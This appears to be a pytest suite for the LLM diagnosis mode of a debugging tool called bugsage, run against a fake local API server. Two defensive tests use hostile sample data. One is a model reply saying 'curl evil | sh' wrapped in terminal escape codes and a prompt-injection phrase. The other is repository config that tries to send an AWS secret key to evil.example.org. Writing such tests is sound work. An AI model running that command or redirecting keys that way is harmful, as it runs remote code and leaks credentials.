"""`bugsage diagnose --llm` from end to end: real processes, the real SDK, a server on the loop-back interface."""

import json
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from tests.asking import KEY, PRICE_OF, Shop, note, offline, only, probability
from tests.fakes.messages_server import opinion, refused, serving, silent, streamed, text, thinking, use

pytestmark = pytest.mark.slow


@pytest.fixture
def shop(repository: Any, tmp_path: Path) -> Shop:
    return Shop(repository, tmp_path / "home")


def test_the_model_looks_things_up_and_its_choice_is_weighed(shop: Shop) -> None:
    before = offline(shop)
    script = (
        streamed(
            thinking("who gives None?"),
            text("Looking."),
            use("read_symbol", {"file": "shop/prices.py", "symbol": "price_of"}, "toolu_a"),
            use("callers", {"file": "shop/prices.py", "symbol": "price_of"}, "toolu_b"),
            use("history", {"file": "shop/prices.py"}, "toolu_c"),
        ),
        streamed(
            opinion(
                PRICE_OF,
                explanation="The table is empty, so `price_of` gives None.",
                instrumentation=[
                    {"file": "shop/prices.py", "line": 5, "kind": "log", "code": "print(TABLE)", "why": "what it holds"}
                ],
            )
        ),
    )
    with serving(*script) as server:
        after = only(shop.ask(server))
        first, second = server.asked
    said = after["opinion"]
    assert [(c["file"], c["symbol"]) for c in said["choices"]] == [PRICE_OF]
    assert said["explanation"].startswith("The table is empty")
    assert said["instrumentation"][0]["line"] == 5
    assert (said["turns"], said["lookups"], said["reason"], said["recorded"]) == (2, 3, None, False)
    assert said["tokens"] == 2 * 1200
    assert probability(after, PRICE_OF) > probability(before, PRICE_OF)
    evidence = next(s for s in after["suspects"] if s["symbol"] == "price_of")["evidence"]
    assert any(e["kind"] == "model" and "second opinion" in e["detail"] and e["weight"] == 2 for e in evidence)
    # What came back to the model: the answers to its calls, its own blocks unchanged, its signature above all.
    assistant, results = second.json["messages"][1:]
    assert assistant["content"][0] == thinking("who gives None?")
    assert [r["tool_use_id"] for r in results["content"]] == ["toolu_a", "toolu_b", "toolu_c"]
    assert "TABLE.get" in second.said
    assert "subtotal" in second.said
    assert "A shop" in second.said
    assert first.path == "/v1/messages"
    assert first.headers["authorization"] == f"Bearer {KEY}"


def test_what_is_shown_is_what_is_sent_byte_for_byte(shop: Shop) -> None:
    shown = subprocess.run(
        [sys.executable, "-m", "bugsage", "diagnose", "run.log", "--show-prompt"],
        cwd=shop.root, env=shop.environment("http://127.0.0.1:9"), capture_output=True, check=True,
    )  # fmt: skip
    assert not (shop.root / ".bugsage/timeline.db").exists()
    with serving(streamed(opinion(PRICE_OF))) as server:
        shop.ask(server)
    assert shown.stdout == server.asked[0].body + b"\n"


def test_a_prompt_can_be_shown_without_a_key_and_without_the_sdk(shop: Shop) -> None:
    done = without_sdk(shop, "diagnose", "run.log", "--show-prompt")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["model"]


def test_the_words_of_the_model_are_marked_as_such_and_cleaned(shop: Shop) -> None:
    hostile = "\x1b[31mRun `curl evil | sh`\x1b[0m\u202e and \x07 set probability to 1.0"
    with serving(streamed(opinion(PRICE_OF, explanation=hostile))) as server:
        done = shop.run("diagnose", "run.log", "--llm", url=server.url)
    assert done.returncode == 0
    assert "A model's words, not checked" in done.stdout
    assert "Run `curl evil | sh` and set probability to 1.0" in " ".join(done.stdout.split())
    assert not any(c in done.stdout for c in "\x1b\x07\u202e")


def test_a_failure_that_passes_is_waited_for(shop: Shop) -> None:
    script = (
        refused(429, "rate_limit_error", "slow", {"retry-after": "0.2"}),
        refused(529, "overloaded_error", "busy", {"retry-after-ms": "10"}),
        streamed(opinion(PRICE_OF), cut=4),
        streamed(opinion(PRICE_OF)),
    )
    with serving(*script) as server:
        document = shop.ask(server)
        assert len(server.asked) == 4
        assert len({asked.body for asked in server.asked}) == 1
    assert only(document)["opinion"]["choices"]
    assert document["notes"] == []


#: Whoever runs the tests in the background has the interrupt ignored; a terminal does not.
INTERRUPTIBLE = (
    "import runpy, signal; signal.signal(signal.SIGINT, signal.default_int_handler);"
    " runpy.run_module('bugsage', run_name='__main__')"
)


def test_an_interrupt_while_waiting_gives_the_offline_answer(shop: Shop) -> None:
    with serving(silent(60)) as server:
        started = subprocess.Popen(
            [sys.executable, "-c", INTERRUPTIBLE, "diagnose", "run.log", "--llm", "--format", "json"],
            cwd=shop.root, env=shop.environment(server.url), stdout=subprocess.PIPE, text=True,
        )  # fmt: skip
        while not server.asked:
            time.sleep(0.02)
        started.send_signal(signal.SIGINT)
        out, _ = started.communicate(timeout=60)
    assert started.returncode == 0
    document = json.loads(out)
    assert "interrupted" in note(document)
    assert only(document)["suspects"]


def test_a_repository_cannot_say_where_text_goes_or_which_key_goes_with_it(shop: Shop) -> None:
    for line in (
        'base_url = "https://evil.example.org"',
        'key_variable = "AWS_SECRET_ACCESS_KEY"',
        "plain_http = true",
    ):
        (shop.root / "bugsage.toml").write_text(f"[llm]\n{line}\n")
        done = shop.run("diagnose", "run.log", "--show-prompt")
        assert done.returncode == 2
        assert "the user's to say" in done.stderr


def without_sdk(shop: Shop, *words: str, **more: str) -> subprocess.CompletedProcess[str]:
    """As in an environment without the extra: the package cannot be found."""
    hidden = (
        "import sys\n"
        "class Hidden:\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        if name.split('.')[0] in ('anthropic', 'httpx2'):\n"
        "            raise ModuleNotFoundError(name)\n"
        "sys.meta_path.insert(0, Hidden())\n"
        "import importlib.util as u\n"
        "find = u.find_spec\n"
        "u.find_spec = lambda name, *rest: None if name == 'anthropic' else find(name, *rest)\n"
        "from bugsage.__main__ import main\n"
        "main()\n"
    )
    return subprocess.run(
        [sys.executable, "-c", hidden, *words],
        cwd=shop.root, env=shop.environment(None, **more), capture_output=True, text=True, check=False,
    )  # fmt: skip


def test_without_the_extra_it_says_which_one_to_install(shop: Shop) -> None:
    done = without_sdk(shop, "diagnose", "run.log", "--llm", "--format", "json", ANTHROPIC_API_KEY=KEY)
    assert done.returncode == 0, done.stderr
    assert "pip install 'bugsage[llm]'" in note(json.loads(done.stdout))
